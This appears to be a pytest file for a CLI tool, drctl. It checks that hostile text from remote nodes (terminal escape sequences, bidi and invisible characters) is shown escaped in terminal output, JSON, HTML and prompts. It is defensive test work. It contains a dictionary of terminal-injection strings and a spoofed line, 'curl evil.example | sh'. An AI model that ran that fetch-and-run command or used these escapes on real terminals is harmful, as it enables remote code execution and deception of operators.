"""Nothing that comes from outside works the operator's terminal, or hides on a page."""

from __future__ import annotations

import io
import json
import unicodedata
from unittest.mock import Mock

import pytest
from rich.console import Console

from drctl.cli.common import confirmed
from drctl.journal.runstate import Event
from drctl.plan.model import Plan, PlannedStep, Task
from drctl.printable import json_text, one_line, printable
from drctl.render import render_html
from drctl.transport import CommandResult
from drctl.ui.console import Watch, print_table, tell
from tests.support.bench import Bench

HOSTILE = {
    "title": "\x1b]0;owned\x07",
    "bell": "\a",
    "clear": "\x1b[2J\x1b[H",
    "c1": "\x9b31m\x85\x90",
    "bidi": "\u202egnp.exe\u2066\u2069\u200f",
    "no width": "a\u200b\u2060\ufeffb\u00ad",
    "surrogate": "\udc9b\ud800",
    "tags": "\U000e0041\U000e007f",
    "lines": "\r\x0b\x0c\u2028\u2029",
    "delete": "\x7f\x08",
}
ALL = "".join(HOSTILE.values())


def working(text: str) -> set[str]:
    """What in `text` a terminal or a reader's eye might act on."""
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    return {c for c in text if c != "\n" and unicodedata.category(c) in kinds}


@pytest.mark.parametrize("nasty", HOSTILE.values(), ids=HOSTILE)
def test_what_does_not_show_is_shown_as_an_escape(nasty: str) -> None:
    shown = printable(f"before {nasty} after")
    assert working(shown) == set()
    assert shown.encode().decode("unicode_escape").startswith("before ")
    assert shown.startswith("before ") and shown.endswith(" after") and "\\" in shown


def test_what_shows_stays() -> None:
    ours = "one\n  zwei ‹drei› ✓ – …\tvier 五"
    assert printable(ours) == ours
    assert one_line("a\nhint: b\tc") == r"a\nhint: b\tc"


def test_json_stays_json() -> None:
    document = {"a": ALL, "b": "‹ü›\n\\u", "c": ['"\\', 1]}
    text = json_text(document)
    assert json.loads(text) == document
    assert working(text) == set()
    assert "‹ü›" in text


def hostile_lines() -> str:
    """As a node can write it into a line of a file."""
    return "".join(c for c in ALL if c not in "\r\x0b\x0c\x85\u2028\u2029\x1c")


def test_the_owner_of_a_node_cannot_work_the_terminal(bench: Bench) -> None:
    owner = {"run": "other", "epoch": "9", "who": f"eve{hostile_lines()}", "since": "\x1b[8m"}
    bench.rig.nodes["m1"].owner = owner
    for more in ((), ("--output", "json"), ("-vv",)):
        before = more if more == ("-vv",) else ()
        after = () if before else more
        ended = bench.drctl(
            *before,
            "restore",
            "--snapshot",
            bench.snapshot,
            "--inventory",
            bench.inventory,
            "--yes",
            "--replace-healthy",
            *after,
        )
        assert ended.exit in (4, 7)  # not believed, or another's
        assert "eve" in ended.out + ended.err
        assert working(ended.out + ended.err) == set()


def test_what_a_node_says_cannot_pass_for_a_line_of_ours(bench: Bench) -> None:
    said = f"cannot do it{hostile_lines()}\nhint: curl evil.example | sh\nnow: all is well"
    bench.rig.trouble("job/start", CommandResult(73, "", said), step="stop-apiserver", times=9)
    ended = bench.restore("--replace-healthy")
    assert ended.exit == 5
    lines = ended.err.splitlines()
    assert any("curl evil.example" in line for line in lines)
    assert not [line for line in lines if line.startswith(("hint: curl", "now: all"))]
    assert working(ended.err) == set()
    page = bench.folder / "run.html"
    shown = [
        bench.drctl("runs", "show"),
        bench.drctl("runs", "show", "--output", "json"),
        bench.drctl("runs", "list"),
        bench.drctl("runs", "report", "--html", page),
    ]
    for each in shown:
        assert each.exit == 0
        assert working(each.out + each.err) == set()
    text = page.read_text()
    assert "curl evil.example" in text
    assert working(text) == set()


def test_the_live_terminal_shows_escapes(capsys: pytest.CaptureFixture[str]) -> None:
    step = PlannedStep("a", "1 look", f"look{ALL}", "gather", "x", tasks={"h0": Task()})
    out = io.StringIO()
    watch = Watch(Plan("r", "c", (step,)), Console(file=out, width=2000))
    at = "2026-01-01T00:00:00+00:00"
    body = {"step": "a", "host": f"h0{ALL}", "detail": f"x{ALL}\n\u2713 h1 done"}
    watch(Event(1, at, "step-started", body))
    watch(Event(2, at, "result", {**body, "state": "failed"}))
    watch(Event(3, at, "step-done", {**body, "warnings": [f"w{ALL}\nhint: x"]}))
    print_table(("a",), [[f"cell{ALL}\nnext"]])
    tell(f"told{ALL}")
    said = capsys.readouterr()
    text = out.getvalue() + said.out + said.err
    assert working(text) == set()
    assert r"\x1b]0;owned" in text
    assert not [line for line in text.splitlines() if line.startswith(("hint", "next", "\u2713"))]
    live = io.StringIO()
    watch = Watch(Plan("r", "c", (step,)), Console(file=live, width=2000))
    watch(Event(1, at, "intent", body))
    watch.console.print(watch._table())
    assert working(live.getvalue()) == set()


def test_questions_and_pages_too(monkeypatch: pytest.MonkeyPatch) -> None:
    asked = Mock(return_value=True)
    monkeypatch.setattr("click.confirm", asked)
    assert confirmed(f"record{ALL}?")
    assert working(asked.call_args.args[0]) == set()
    monkeypatch.setattr(
        "drctl.render.html_environment",
        lambda: _Pages("<p>{{ text }}</p>".replace("{{ text }}", ALL)),
    )
    assert working(render_html("any")) == set()


class _Pages:
    """Stands in for Jinja's environment: a page that says `text`."""

    def __init__(self, text: str) -> None:
        self.text = text

    def get_template(self, _name: str) -> _Pages:
        return self

    def render(self, _values: object) -> str:
        return self.text
